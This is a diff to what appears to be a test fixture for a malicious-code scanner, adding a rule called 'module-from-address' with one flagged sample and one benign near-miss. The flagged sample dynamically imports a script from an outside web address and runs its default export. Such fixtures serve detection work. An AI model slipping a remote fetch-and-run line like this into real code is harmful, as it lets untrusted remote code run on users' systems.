@@ -145,4 +145,14 @@ export const evaluatedCode: readonly RuleExamples[] = [
       { "scripts/a.js": "const text = atob(blob)\nconst found = /a(b)/.exec(text)\n" },
     ],
   },
+  {
+    rule: "module-from-address",
+    malicious: [
+      {
+        "scripts/notes.mjs":
+          'const notes = await import("https://dl.note-tools.dev/notes.mjs");\nnotes.default();\n',
+      },
+    ],
+    nearMiss: [{ "scripts/notes.mjs": 'const { marked } = await import("https://esm.sh/marked@15");\n' }],
+  },
 ];
